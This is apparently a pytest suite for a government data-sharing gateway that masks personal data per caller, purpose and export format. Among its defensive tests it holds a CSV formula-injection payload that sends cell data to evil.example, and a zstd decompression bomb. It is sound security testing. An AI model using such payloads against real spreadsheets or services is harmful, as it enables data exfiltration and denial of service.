"""Shaping through the real pipeline: profiles per caller, the scanner, encodings, and no leaks."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import datetime
import functools
import re
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mitmproxy import http

from gateway.audit.search import AuditQuery, search
from gateway.catalog import PUBLIC_FIELD_KEYS, PUBLIC_LISTS, PUBLIC_TEXT
from gateway.context import RequestContext
from gateway.demo.data import DemoStore, generate
from gateway.formats import RecordWriter
from gateway.grants.admin import Actor
from gateway.grants.model import GrantError, GrantSpec
from gateway.identifiers import is_mobile, is_valid_id_number
from gateway.identity import load_principal
from gateway.pipeline import Pipeline, default_stages
from gateway.service import Gateway
from gateway.stages.shape import ShapeStage
from tests.factories import (
    body_of,
    compress,
    decompress,
    drive,
    drive_stream,
    json_response,
    real_rows,
    request_flow,
    unmarked,
)

Creds = dict[str, dict[str, Any]]
CASE = "MZ-2026-000123"
RELATIVE_ID = "11010519870605123X"
CONTENT_TYPES = {"json": "application/json", "ndjson": "application/x-ndjson", "csv": "text/csv"}


@functools.cache
def store() -> DemoStore:
    return generate(scale=0.1)


@pytest.fixture
def granted(gateway: Gateway) -> Gateway:
    """Real grants on every dataset the callers below read: all fields, the purpose's own profile.

    The property test reads at machine pace, which the enumeration detector rightly takes for
    scraping and answers by suspending the key; alerts are not what these tests are about.
    """
    gateway.detection.sink = lambda detection: None
    now = datetime.datetime.now(datetime.UTC)
    admin = Actor("admin", ("admin",), None)
    for (who, purpose, _case), datasets in CALLERS.items():
        with gateway.engine.connect() as conn:
            principal = load_principal(conn, who)
        assert principal is not None
        for dataset_id in datasets:
            ds = gateway.catalog[dataset_id]
            needs_grant = (
                ds.share == "conditional"
                if principal.kind == "department"
                else ds.open == "on_application"
            )
            if not needs_grant or who == "mz_caseworker":  # the demo seed already grants 民政局
                continue
            spec = GrantSpec(
                dataset=dataset_id,
                fields=tuple(f.name for f in ds.fields),
                valid_from=now - datetime.timedelta(minutes=1),
                valid_until=now + datetime.timedelta(days=30),
                department=principal.department if principal.kind == "department" else None,
                principal=None if principal.kind == "department" else who,
                purposes=(purpose,),
            )
            with contextlib.suppress(GrantError):  # the same grant for two purposes of one caller
                gateway.admin.create(admin, spec)
    gateway.refresh()
    return gateway


class NameProfile:
    """Plays the grant's part: names a masking profile in the obligations."""

    name = "grant"

    def __init__(self, profile: str) -> None:
        self.profile = profile

    def request(self, ctx: RequestContext, flow: http.HTTPFlow) -> None:
        if ctx.obligations is not None:
            ctx.obligations = dataclasses.replace(ctx.obligations, masking_profile=self.profile)


def pipeline_for(gateway: Gateway, profile: str | None = None) -> Pipeline:
    stages = default_stages(gateway)
    if profile is not None:
        at = next(i for i, s in enumerate(stages) if s.name == "authorize") + 1
        stages.insert(at, NameProfile(profile))
    return Pipeline(stages)


def journal(gateway: Gateway) -> list[dict[str, Any]]:
    return search(gateway.settings.journal_path, AuditQuery(kind="access"), gateway.hasher).events


def records_of(dataset: str, start: int = 0, n: int = 3) -> list[dict[str, Any]]:
    return [dict(r) for r in store().records[dataset][start : start + n]]


async def fetch(
    gateway: Gateway,
    who: str,
    purpose: str,
    dataset: str,
    records: list[dict[str, Any]],
    credentials: Creds,
    *,
    profile: str | None = None,
    case: str | None = None,
    headers: dict[str, str] | None = None,
) -> http.HTTPFlow:
    flow = request_flow(
        f"/api/v1/datasets/{dataset}/records",
        key=credentials[who]["api_key"],
        purpose=purpose,
        case_id=case,
        headers=headers,
    )
    await drive(pipeline_for(gateway, profile), flow, json_response({"records": records}))
    return flow


# -- who sees what ----------------------------------------------------------------------------


async def test_when_statistics_reads_population_then_it_sees_pseudonyms_and_generalised_values(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population")
    flow = await fetch(gateway, "tj_analyst", "statistics", "population", raw, credentials)
    assert flow.response is not None and flow.response.status_code == 200
    delivered = body_of(flow)["records"]
    for before, after in zip(raw, delivered, strict=True):
        assert set(after) == {
            "record_id",
            "id_number",
            "gender",
            "birth_date",
            "ethnicity",
            "address",
        }
        assert re.fullmatch(r"[0-9a-f]{20}", after["id_number"])
        assert re.fullmatch(r"[0-9]+-[0-9]+|90\+", after["birth_date"])
        assert before["address"].startswith(after["address"]) and after["address"].endswith("区")
    [event] = journal(gateway)
    sg = event["shareguard"]
    assert sg["masking_profile"] == "statistics"
    assert sg["masked_fields"] == ["id_number", "birth_date", "address"]
    assert sg["pseudonym_key_version"] == 1
    # The audit log names the people by their real identifiers (hashed), not by pseudonyms.
    assert sg["data_subjects"]["hashes"] == [gateway.hasher(r["id_number"]) for r in raw]


async def test_when_two_departments_read_the_same_person_then_their_pseudonyms_differ(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population", n=1)
    a = await fetch(gateway, "tj_analyst", "statistics", "population", raw, credentials)
    b = await fetch(gateway, "tj_analyst", "statistics", "population", raw, credentials)
    c = await fetch(
        gateway,
        "sw_officer",
        "tax_administration",
        "population",
        raw,
        credentials,
        profile="statistics",
    )
    pa, pb, pc = (body_of(f)["records"][0]["id_number"] for f in (a, b, c))
    assert pa == pb != pc


async def test_when_a_caseworker_reviews_a_case_then_she_sees_the_applicant_but_not_ethnicity(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population", n=1)
    flow = await fetch(
        gateway,
        "mz_caseworker",
        "social_assistance_review",
        "population",
        raw,
        credentials,
        case=CASE,
    )
    [got] = body_of(flow)["records"]
    assert {k: unmarked(got[k]) for k in ("name", "id_number", "address", "mobile")} == {
        k: raw[0][k] for k in ("name", "id_number", "address", "mobile")
    }
    assert got["ethnicity"] == "[已隐藏]"


async def test_when_health_staff_read_notes_then_undeclared_identifiers_are_masked_and_counted(
    granted: Gateway, credentials: Creds
) -> None:
    raw = records_of("medical_visits", n=1)
    raw[0]["notes"] = f"家属（配偶王芳）身份证号{RELATIVE_ID}，手机13812345678。"
    flow = await fetch(
        granted, "wj_officer", "health_management", "medical_visits", raw, credentials
    )
    [got] = body_of(flow)["records"]
    assert got["id_number"] == raw[0]["id_number"]  # declared and allowed to this caller
    assert unmarked(got["notes"]) == "家属（配偶王*）身份证号110105********123X，手机138****5678。"
    [event] = journal(granted)
    assert event["shareguard"]["undeclared_personal_data"]["by_type"] == {
        "id_number": 1,
        "mobile": 1,
        "name": 1,
    }
    text = orjson.dumps(event).decode()
    assert RELATIVE_ID not in text and "13812345678" not in text


async def test_when_a_public_developer_reads_open_data_then_people_in_it_are_de_identified(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("legal_entity", n=2)
    raw[1]["status"] = "联系人张三丰，电话13812345678"
    flow = await fetch(
        gateway,
        "public_dev",
        "open_data_use",
        "legal_entity",
        raw,
        credentials,
        profile="administration",
    )
    got = body_of(flow)["records"]
    assert [g["legal_representative"] for g in got] == [
        r["legal_representative"][0] + "*" * (len(r["legal_representative"]) - 1) for r in raw
    ]
    assert got[1]["status"] == "联系人张**，电话[手机号]"
    assert journal(gateway)[0]["shareguard"]["masking_profile"] == "open_data"


async def test_when_a_grant_names_an_unknown_profile_then_nothing_is_delivered(
    gateway: Gateway, credentials: Creds
) -> None:
    flow = await fetch(
        gateway,
        "tj_analyst",
        "statistics",
        "population",
        records_of("population"),
        credentials,
        profile="nope",
    )
    assert flow.response is not None and flow.response.status_code == 403
    assert journal(gateway)[0]["shareguard"]["reason"] == "masking_profile_unknown"


async def test_when_a_profile_needs_a_case_and_none_is_given_then_400(
    gateway: Gateway, credentials: Creds
) -> None:
    flow = await fetch(
        gateway,
        "sw_officer",
        "tax_administration",
        "population",
        records_of("population"),
        credentials,
        profile="case_review",
    )
    assert flow.response is not None and flow.response.status_code == 400
    assert body_of(flow)["detail"] == "case_required"


# -- requests that try to get around shaping ---------------------------------------------------


async def test_when_a_head_request_is_made_then_it_is_refused_before_the_platform(
    gateway: Gateway, credentials: Creds
) -> None:
    flow = request_flow(
        "/api/v1/datasets/population/records",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
        method="HEAD",
    )
    await drive(pipeline_for(gateway), flow)
    assert flow.response is not None and flow.response.status_code == 403
    assert body_of(flow)["error"] == "route_not_allowed"


@pytest.mark.parametrize(
    ("status", "headers"),
    [
        (206, {"content-range": "bytes 0-99/5000"}),
        (304, {"etag": '"abc"'}),
        (412, {}),
    ],
    ids=["a partial response", "not modified", "precondition failed"],
)
async def test_when_the_platform_answers_a_range_or_a_condition_anyway_then_nothing_passes(
    gateway: Gateway, credentials: Creds, status: int, headers: dict[str, str]
) -> None:
    raw = records_of("population")
    flow = request_flow(
        "/api/v1/datasets/population/records",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
        headers={"range": "bytes=0-99", "if-none-match": '"abc"', "if-range": '"abc"'},
    )
    upstream = json_response({"records": raw}, status=status, headers=headers)
    await drive(pipeline_for(gateway), flow, upstream)
    assert "range" not in flow.request.headers and "if-none-match" not in flow.request.headers
    assert flow.response is not None and flow.response.status_code >= 400
    assert raw[0]["name"].encode() not in (flow.response.content or b"")


async def test_when_a_range_is_asked_for_then_the_whole_shaped_body_comes_without_validators(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population")
    flow = request_flow(
        "/api/v1/datasets/population/records",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
        headers={"range": "bytes=0-9"},
    )
    upstream = json_response(
        {"records": raw},
        headers={"etag": '"platform"', "last-modified": "x", "accept-ranges": "bytes"},
    )
    await drive(pipeline_for(gateway), flow, upstream)
    assert flow.response is not None and flow.response.status_code == 200
    for header in ("etag", "last-modified", "accept-ranges", "content-range"):
        assert header not in flow.response.headers
    assert flow.response.headers["cache-control"] == "no-store"
    assert len(body_of(flow)["records"]) == 3


# -- exports: encodings, CSV ------------------------------------------------------------------


def export_body(fmt: str, records: list[dict[str, Any]]) -> bytes:
    writer = RecordWriter(fmt, "population")
    return writer.start() + writer.write(records) + writer.finish()


async def export(
    gateway: Gateway,
    credentials: Creds,
    fmt: str,
    body: bytes,
    *,
    upstream_encoding: str = "identity",
    accept: str | None = None,
    who: str = "tj_analyst",
    purpose: str = "statistics",
    dataset: str = "population",
    case: str | None = None,
) -> tuple[RequestContext, http.HTTPFlow, bytes]:
    flow = request_flow(
        f"/api/v1/datasets/{dataset}/export?format={fmt}",
        key=credentials[who]["api_key"],
        purpose=purpose,
        case_id=case,
        headers={"accept-encoding": accept} if accept else None,
    )
    headers = {"content-type": CONTENT_TYPES[fmt]}
    if upstream_encoding != "identity":
        headers["content-encoding"] = upstream_encoding
    ctx, out = await drive_stream(
        pipeline_for(gateway), flow, compress(body, upstream_encoding), headers
    )
    return ctx, flow, out


@pytest.mark.parametrize("upstream", ["gzip", "deflate", "br", "zstd"])
@pytest.mark.parametrize("accept", ["gzip", "br", "zstd", "identity"])
async def test_when_an_export_is_compressed_both_ways_then_records_stream_shaped(
    gateway: Gateway, credentials: Creds, upstream: str, accept: str
) -> None:
    raw = records_of("population", n=50)
    ctx, flow, out = await export(
        gateway,
        credentials,
        "ndjson",
        export_body("ndjson", raw),
        upstream_encoding=upstream,
        accept=accept,
    )
    assert flow.error is None and ctx.stream_failed is None
    encoding = flow.response.headers.get("content-encoding") if flow.response else None
    assert encoding == (None if accept == "identity" else accept)
    lines = decompress(out, encoding).splitlines()
    got = [orjson.loads(line) for line in lines]
    assert [g["record_id"] for g in real_rows(got, raw)] == [r["record_id"] for r in raw]
    assert all("name" not in g and "mobile" not in g for g in got)
    [complete] = [e for e in journal(gateway) if e["shareguard"]["phase"] == "complete"]
    assert complete["shareguard"]["records"] == len(got)  # decoys are delivered rows too
    assert complete["shareguard"]["masked_fields"] == ["id_number", "birth_date", "address"]


async def test_when_an_export_is_a_decompression_bomb_then_the_stream_is_cut(
    gateway: Gateway, credentials: Creds
) -> None:
    import zstandard

    bomb = zstandard.ZstdCompressor().compress(b" " * (200 << 20))
    flow = request_flow(
        "/api/v1/datasets/population/export?format=ndjson",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
    )
    ctx, out = await drive_stream(
        pipeline_for(gateway),
        flow,
        bomb,
        {"content-type": "application/x-ndjson", "content-encoding": "zstd"},
        chunk=1 << 16,
    )
    assert ctx.stream_failed is not None and "limit" in ctx.stream_failed
    assert out == b""


async def test_when_a_csv_export_has_no_header_then_no_record_is_delivered(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population", n=5)
    body = export_body("csv", raw)
    headerless = body.split(b"\r\n", 1)[1]
    ctx, _flow, out = await export(gateway, credentials, "csv", headerless)
    assert ctx.stream_failed is not None and "header" in ctx.stream_failed
    assert raw[0]["id_number"].encode() not in out and raw[1]["id_number"].encode() not in out


async def test_when_a_csv_export_carries_formulas_then_spreadsheets_will_not_run_them(
    gateway: Gateway, credentials: Creds
) -> None:
    raw = records_of("population", n=3)
    raw[0]["ethnicity"] = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
    raw[1]["ethnicity"] = "@SUM(1+1)"
    raw[2]["ethnicity"] = "-3.5"
    _ctx, _flow, out = await export(gateway, credentials, "csv", export_body("csv", raw))
    text = out.decode()
    assert "'=HYPERLINK" in text and "'@SUM" in text
    assert ",-3.5," in text  # a plain number stays a number


# -- the property: nothing a caller may not see leaves, in any format or encoding -----------

CALLERS = {
    # (principal, purpose, case) → datasets it can read
    ("mz_caseworker", "social_assistance_review", CASE): (
        "population",
        "social_insurance",
        "real_estate",
    ),
    ("tj_analyst", "statistics", None): (
        "population",
        "legal_entity",
        "social_insurance",
        "medical_visits",
        "credit_records",
        "weather",
    ),
    ("sw_officer", "tax_administration", None): ("population", "social_insurance", "real_estate"),
    ("wj_officer", "health_management", None): ("medical_visits",),
    ("wj_officer", "public_health_monitoring", None): ("medical_visits",),
    ("public_dev", "open_data_use", None): ("legal_entity", "weather", "credit_records"),
}
BULK = {"population", "legal_entity", "credit_records", "weather"}
ENCODINGS = ["identity", "gzip", "deflate", "br", "zstd"]
_ID_RUN = re.compile(r"(?<![0-9])[0-9]{17}[0-9Xx](?![0-9])")
_MOBILE_RUN = re.compile(r"(?<![0-9])1[3-9][0-9]{9}(?![0-9])")


def interesting_records(dataset: str) -> list[int]:
    """Positions of records with identifiers in their free text: the scanner's real work."""
    free_text = [f.name for f in store().catalog[dataset].fields if f.pii == "free_text"]
    return [
        i
        for i, r in enumerate(store().records[dataset])
        if any(_ID_RUN.search(r[name]) or _MOBILE_RUN.search(r[name]) for name in free_text)
    ]


@st.composite
def requests(draw: st.DrawFn) -> dict[str, Any]:
    caller = draw(st.sampled_from(sorted(CALLERS, key=str)))
    dataset = draw(st.sampled_from(CALLERS[caller]))
    size = len(store().records[dataset])
    interesting = interesting_records(dataset)
    start = draw(
        st.one_of(st.sampled_from(interesting), st.integers(0, size - 1))
        if interesting
        else st.integers(0, size - 1)
    )
    formats = ["records", "record"] + (["json", "ndjson", "csv"] if dataset in BULK else [])
    return {
        "caller": caller,
        "dataset": dataset,
        "records": records_of(dataset, start, draw(st.integers(1, 4))),
        "format": draw(st.sampled_from(formats)),
        "upstream": draw(st.sampled_from(ENCODINGS)),
        "accept": draw(st.sampled_from([*ENCODINGS, "br;q=0.5, gzip;q=0.9"])),
    }


def hidden_values(gateway: Gateway, req: dict[str, Any]) -> set[str]:
    """Raw values the caller may not see: fields its profile does not keep, and identifiers
    inside kept free text. A field value that also occurs inside a kept field is left out (the
    caller may see it there), and so is an embedded identifier that a kept field holds whole."""
    (who, purpose, _case) = req["caller"]
    shape = next(s for s in default_stages(gateway) if isinstance(s, ShapeStage))
    policy = shape.factory.policy
    taxonomy_purpose = gateway.taxonomy.get(purpose)
    assert taxonomy_purpose is not None
    profile = policy.profile_for(None, taxonomy_purpose.lineage, who == "public_dev")
    ds = gateway.catalog[req["dataset"]]
    hidden_fields: set[str] = set()
    embedded: set[str] = set()
    kept: list[str] = []
    for record in req["records"]:
        for f in ds.fields:
            value = record.get(f.name)
            if value is None:
                continue
            text = value if isinstance(value, str) else orjson.dumps(value).decode()
            if policy.operator_for(profile, ds, f).name == "keep":
                kept.append(text)
                for match in _ID_RUN.finditer(text):
                    if match.group() != text and is_valid_id_number(
                        match.group(), lowercase_x=True
                    ):
                        embedded.add(match.group())
                for match in _MOBILE_RUN.finditer(text):
                    if match.group() != text and is_mobile(match.group()):
                        embedded.add(match.group())
            elif len(text) >= 6 or (f.pii == "name" and len(text) >= 2):
                hidden_fields.add(text)
    return {h for h in hidden_fields if not any(h in k for k in kept)} | {
        e for e in embedded if e not in kept
    }


async def run_request(gateway: Gateway, credentials: Creds, req: dict[str, Any]) -> bytes:
    who, purpose, case = req["caller"]
    key = credentials[who]["api_key"]
    fmt = req["format"]
    headers = {"accept-encoding": req["accept"]}
    upstream_headers = (
        {} if req["upstream"] == "identity" else {"content-encoding": req["upstream"]}
    )
    if fmt in ("records", "record"):
        path = f"/api/v1/datasets/{req['dataset']}/records"
        payload: Any = {"records": req["records"]}
        if fmt == "record":
            path += f"/{req['records'][0]['record_id']}"
            payload = req["records"][0]
        flow = request_flow(path, key=key, purpose=purpose, case_id=case, headers=headers)
        upstream = json_response(b"", headers=upstream_headers)
        # Set as raw bytes: assigning .content would make mitmproxy encode it once more.
        upstream.raw_content = compress(orjson.dumps(payload), req["upstream"])
        await drive(pipeline_for(gateway), flow, upstream)
        assert flow.response is not None
        assert flow.response.status_code == 200, flow.response.content
        return decompress(
            flow.response.raw_content or b"", flow.response.headers.get("content-encoding")
        )
    flow = request_flow(
        f"/api/v1/datasets/{req['dataset']}/export?format={fmt}",
        key=key,
        purpose=purpose,
        case_id=case,
        headers=headers,
    )
    writer = RecordWriter(fmt, req["dataset"])
    body = writer.start() + writer.write(req["records"]) + writer.finish()
    ctx, out = await drive_stream(
        pipeline_for(gateway),
        flow,
        compress(body, req["upstream"]),
        {"content-type": CONTENT_TYPES[fmt], **upstream_headers},
        chunk=113,
    )
    assert ctx.refusal is None and ctx.stream_failed is None, (ctx.refusal, ctx.stream_failed)
    assert flow.response is not None
    return decompress(out, flow.response.headers.get("content-encoding"))


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(req=requests())
def test_no_raw_value_a_caller_may_not_see_leaves_in_any_format_or_encoding(
    granted: Gateway, credentials: Creds, req: dict[str, Any]
) -> None:
    delivered = asyncio.run(run_request(granted, credentials, req)).decode("utf-8")
    leaked = sorted(h for h in hidden_values(granted, req) if h in delivered)
    assert leaked == []


def test_the_demo_data_gives_the_property_free_text_with_identifiers_to_find() -> None:
    assert 10 <= len(interesting_records("medical_visits")) < 100


# -- what the platform sends beside the records ------------------------------------------------

LEAKY_ID = "110105199003071237"  # a wrong check digit: no scanner finds it, only the allow-list
VALID_ID = "11010519491231002X"


async def test_what_the_platform_puts_beside_the_records_does_not_reach_the_caller(
    gateway: Gateway, credentials: Creds
) -> None:
    upstream = {
        "dataset": "population",
        "total": 1,
        "offset": 0,
        "limit": 20,
        "debug": {"id_number": LEAKY_ID, "name": "张三"},
        "next": f"/api/v1/datasets/population/records?id_number={LEAKY_ID}",
        "records": [],
    }
    flow = request_flow(
        "/api/v1/datasets/population/records",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
    )
    await drive(pipeline_for(gateway, "strict"), flow, json_response(upstream))
    assert flow.response is not None and flow.response.status_code == 200
    raw = flow.response.get_content() or b""
    assert LEAKY_ID.encode() not in raw and "张三".encode() not in raw
    assert body_of(flow) == {
        "dataset": "population",
        "total": 1,
        "offset": 0,
        "limit": 20,
        "records": [],
    }


@pytest.mark.parametrize(
    "envelope",
    [{"dataset": "medical_visits"}, {"total": -1}, {"total": "1"}, {"limit": True}],
    ids=["other dataset", "negative", "string", "bool"],
)
async def test_when_the_envelope_is_malformed_then_it_is_refused(
    gateway: Gateway, credentials: Creds, envelope: dict[str, Any]
) -> None:
    flow = request_flow(
        "/api/v1/datasets/population/records",
        key=credentials["tj_analyst"]["api_key"],
        purpose="statistics",
    )
    await drive(pipeline_for(gateway), flow, json_response({**envelope, "records": []}))
    assert flow.response is not None and flow.response.status_code == 502
    assert body_of(flow)["error"] == "upstream_unreadable"


async def test_the_catalog_keeps_its_public_metadata_and_nothing_else(
    gateway: Gateway, credentials: Creds
) -> None:
    expected = {"datasets": [ds.public_metadata() for ds in gateway.catalog]}
    leaky = orjson.loads(orjson.dumps(expected))
    leaky["debug"] = {"id_number": LEAKY_ID, "name": "张三"}
    leaky["datasets"][0]["contact"] = "张三"
    leaky["datasets"][0]["fields"][0]["example"] = LEAKY_ID
    leaky["datasets"][1]["title"] += f" 联系人手机 13800138000 {VALID_ID}"
    flow = request_flow("/api/v1/catalog", key=credentials["public_dev"]["api_key"])
    await drive(pipeline_for(gateway), flow, json_response(leaky))
    assert flow.response is not None and flow.response.status_code == 200
    raw = flow.response.get_content() or b""
    assert LEAKY_ID.encode() not in raw and b"13800138000" not in raw
    assert VALID_ID.encode() not in raw and "张三".encode() not in raw
    got = body_of(flow)
    assert got["datasets"][0] == expected["datasets"][0]
    assert got["datasets"][2:] == expected["datasets"][2:]


def test_every_key_of_the_public_metadata_is_one_the_gateway_lets_through(
    gateway: Gateway,
) -> None:
    for dataset in gateway.catalog:
        meta = dataset.public_metadata()
        assert set(meta) - {"fields"} <= PUBLIC_TEXT | PUBLIC_LISTS, dataset.id
        assert all(set(f) <= PUBLIC_FIELD_KEYS for f in meta["fields"]), dataset.id
